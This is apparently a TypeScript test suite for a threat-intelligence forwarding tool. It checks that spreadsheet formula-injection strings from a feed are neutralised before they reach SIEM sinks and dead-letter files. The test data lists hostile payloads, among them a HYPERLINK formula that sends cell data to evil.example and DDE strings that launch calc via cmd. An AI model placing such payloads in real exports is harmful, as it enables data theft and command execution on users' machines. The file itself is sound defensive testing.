/**
 * Output safety (FAULTS F4/A15, issue 18): formula text from a feed (`=HYPERLINK(...)`, `@SUM(1)`,
 * `-2+3`, `+1`, TAB, CR) arrives neutralised in every sink's stored document (the simulators
 * store what the real system would), and in dead-letter lines; the store keeps it verbatim.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { neutraliseFormula, neutraliseValue, csvCell } from '../src/core/formula-safe.js';
import { factsOf, recordsFor } from '../src/delivery/records.js';
import { DeadLetterFile } from '../src/delivery/dead-letter.js';
import type { StixObject } from '../src/core/stix.js';
import { indicator, mappedRecords } from './helpers/sink-kit.js';
import { splunkKvSink, splunkEsSink, splunkHecSink } from '../integrations/splunk/index.js';
import {
  commonConfig as splunkCommon,
  ictx as splunkIctx,
  JWT,
  HEC_TOKEN,
  kvConfig,
  runContext as splunkRun,
  startSim as startSplunk,
} from '../integrations/splunk/sink-test-kit.js';
import { createQradarSink } from '../integrations/qradar/sink.js';
import {
  config as qradarConfig,
  ictx as qradarIctx,
  runContext as qradarRun,
  startSim as startQradar,
} from '../integrations/qradar/test-kit.js';
import { xsoarSink } from '../integrations/xsoar/index.js';
import {
  config as xsoarConfig,
  ictx as xsoarIctx,
  runContext as xsoarRun,
  startSim as startXsoar,
} from '../integrations/xsoar/test-kit.js';
import { must } from './helpers/must.js';

const LABELS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '@SUM(1)',
  "-2+3+cmd|' /C calc'!A0",
  '+1',
  '\tTAB',
  '\rCR',
  'benign',
];
const NEUTRAL = LABELS.map((l) => (l === 'benign' ? l : `'${l}`));
const NAME = '=1+1';

function hostile(value: string): StixObject {
  return indicator(value, 80, { labels: [...LABELS], name: NAME, description: '@cmd' });
}

/** Records of an object taken as a sink's view at TLP:CLEAR (src/access makes views; these tests need none). */
const recordsOf = (
  o: StixObject,
  seq: number,
  op: 'upsert' | 'remove',
  reason: string | undefined,
  m: Record<string, string>,
) => recordsFor(o, seq, op, reason, m, factsOf(o, 'clear'));

test('F4/A15 neutraliseFormula: OWASP triggers prefixed with a quote; other text and idempotence', () => {
  assert.deepEqual(LABELS.map(neutraliseFormula), NEUTRAL);
  for (const s of ['', 'a=b', "'=x", ' =x', '1.2.3.4', 'http://a.example/=x']) assert.equal(neutraliseFormula(s), s);
  assert.equal(neutraliseFormula(neutraliseFormula('=x')), "'=x");
  assert.deepEqual(neutraliseValue(['=a', 'b', 3]), ["'=a", 'b', 3]);
  assert.equal(neutraliseValue(5), 5);
  assert.equal(csvCell('=a,b'), '"\'=a,b"');
  assert.equal(csvCell('=a'), '"\'=a"');
  assert.equal(csvCell('a"b'), '"a""b"');
  assert.equal(csvCell('plain'), 'plain');
});

test('F4/A15 sink records: every mapped string neutralised (lists element-wise, CSV joins per label); the object itself untouched', () => {
  const obj = hostile('198.51.100.7');
  const [r] = recordsOf(obj, 1, 'upsert', undefined, {
    l: 'labels',
    c: 'labels_csv',
    n: 'name',
    d: 'description',
    v: 'value',
    k: '=const',
  });
  assert.deepEqual(must(r, 'r').fields.l, NEUTRAL);
  assert.equal(must(r, 'r').fields.c, NEUTRAL.join(','));
  assert.equal(must(r, 'r').fields.n, "'=1+1");
  assert.equal(must(r, 'r').fields.d, "'@cmd");
  assert.equal(must(r, 'r').fields.v, '198.51.100.7');
  assert.equal(must(r, 'r').fields.k, 'const');
  assert.deepEqual(obj.labels, LABELS, 'the stored object keeps its labels verbatim');
  // a value that can begin with a trigger (an e-mail local part) is sent neutralised; its key is the canonical value's
  const [e] = recordsOf(indicator("-cmd|'calc'!a0@evil.example"), 1, 'upsert', undefined, { v: 'value' });
  assert.equal(must(e, 'e').observable.value, "'-cmd|'calc'!a0@evil.example");
  assert.equal(must(e, 'e').fields.v, must(e, 'e').observable.value);
  const [canon] = recordsOf(indicator('plain@evil.example'), 1, 'upsert', undefined, {});
  assert.match(must(e, 'e').key, /^[0-9a-f]{40}$/);
  assert.notEqual(must(e, 'e').key, must(canon, 'canon').key);
});

test('F4/A15 splunk_kv: labels, name and description arrive neutralised in the stored KV document', async (t) => {
  const { sim, base } = await startSplunk(t);
  const ctx = splunkRun(t);
  const sink = splunkKvSink.create(kvConfig(base), splunkIctx);
  await must(sink.prepare, 'sink.prepare').call(sink, ctx);
  const out = await sink.upsert(mappedRecords('splunk_kv', [hostile('198.51.100.7')]), ctx);
  assert.deepEqual(out, [{ status: 'ok' }]);
  const [doc] = sim.documents('stixgate', 'ti');
  assert.equal(must(doc, 'doc').labels, NEUTRAL.join(','));
  assert.equal(must(doc, 'doc').name, "'=1+1");
  assert.equal(must(doc, 'doc').description, "'@cmd");
  assert.equal(must(doc, 'doc').indicator, '198.51.100.7');
});

test('F4/A15 splunk_es: the threat-intel document carries neutralised text fields', async (t) => {
  const { sim, base } = await startSplunk(t);
  const ctx = splunkRun(t);
  const sink = splunkEsSink.create(
    {
      ...splunkCommon('splunk_es'),
      url: base,
      auth: { bearer_token: JWT },
      owner: 'nobody',
      app: 'DA-ESS-ThreatIntelligence',
      max_documents_per_batch_save: 1000,
      max_keys_per_delete: 50,
    },
    splunkIctx,
  );
  await sink.prepare?.(ctx);
  assert.deepEqual(await sink.upsert(mappedRecords('splunk_es', [hostile('198.51.100.8')]), ctx), [{ status: 'ok' }]);
  const [doc] = sim.documents('DA-ESS-ThreatIntelligence', 'ip_intel');
  const strings = Object.values(must(doc, 'doc')).filter((v): v is string => typeof v === 'string');
  assert.ok(
    strings.some((v) => v.startsWith("'")),
    JSON.stringify(doc),
  );
  for (const v of strings) assert.ok(!/^[=+\-@\t\r]/.test(v), `field value ${JSON.stringify(v)} is formula-like`);
});

test('F4/A15 splunk_hec: event fields neutralised', async (t) => {
  const { sim, base } = await startSplunk(t);
  const ctx = splunkRun(t);
  const sink = splunkHecSink.create(
    { ...splunkCommon('splunk_hec'), url: base, token: HEC_TOKEN } as never,
    splunkIctx,
  );
  assert.deepEqual(await sink.upsert(mappedRecords('splunk_hec', [hostile('198.51.100.9')]), ctx), [{ status: 'ok' }]);
  const [ev] = sim.events();
  const event = must(ev, 'ev').event as Record<string, unknown>;
  const flat = JSON.stringify(event);
  assert.ok(
    flat.includes(JSON.stringify("'@SUM(1)").slice(1, -1)) ||
      Object.values(event).some((v) => Array.isArray(v) && v.includes("'@SUM(1)")),
    flat,
  );
  const visit = (v: unknown): void => {
    if (typeof v === 'string') assert.ok(!/^[=+\-@\t\r]/.test(v), `HEC value ${JSON.stringify(v)} is formula-like`);
    else if (Array.isArray(v)) v.forEach(visit);
    else if (v && typeof v === 'object') Object.values(v).forEach(visit);
  };
  visit(event);
});

test('F4/A15 qradar: a formula-like e-mail value and a labels-mapped notes field arrive neutralised in the reference set', async (t) => {
  const { sim, base } = await startQradar(t);
  const ctx = qradarRun(t);
  const sink = createQradarSink(qradarConfig(base), qradarIctx);
  await must(sink.prepare, 'sink.prepare').call(sink, ctx);
  const recs = recordsOf(hostile("=cmd|'calc'!a0@evil.example"), 1, 'upsert', undefined, {
    source: '=stixgate',
    notes: 'labels_csv',
  });
  assert.deepEqual(await sink.upsert(recs, ctx), [{ status: 'ok' }]);
  const [el] = sim.elements('stixgate - Email Addresses');
  assert.equal(must(el, 'el').value, "'=cmd|'calc'!a0@evil.example");
  assert.equal(must(el, 'el').notes, NEUTRAL.join(','));
});

test('F4/A15 xsoar: tags and the indicator fields arrive neutralised in the stored indicator', async (t) => {
  const { sim, base } = await startXsoar(t);
  const ctx = xsoarRun(t);
  const sink = xsoarSink.create(xsoarConfig(base), xsoarIctx);
  assert.deepEqual(await sink.upsert(mappedRecords('xsoar', [hostile('198.51.100.10')]), ctx), [{ status: 'ok' }]);
  const [ind] = sim.indicators();
  assert.deepEqual(must(ind, 'ind').CustomFields.tags, NEUTRAL);
  assert.equal(must(ind, 'ind').value, '198.51.100.10');
});

test('F4/A15 dead-letter lines: value and reason neutralised', () => {
  const dir = mkdtempSync(join(tmpdir(), 'stixgate-dl-'));
  try {
    const f = new DeadLetterFile(join(dir, 'dl.jsonl'));
    const [r] = recordsOf(indicator('=x@evil.example'), 7, 'upsert', undefined, {});
    f.write('s', [{ record: must(r, 'r'), reason: '=HYPERLINK("x") refused' }], Date.UTC(2026, 0, 1));
    const line = JSON.parse(readFileSync(join(dir, 'dl.jsonl'), 'utf8').trim());
    assert.equal(line.value, "'=x@evil.example");
    assert.equal(line.reason, '\'=HYPERLINK("x") refused');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
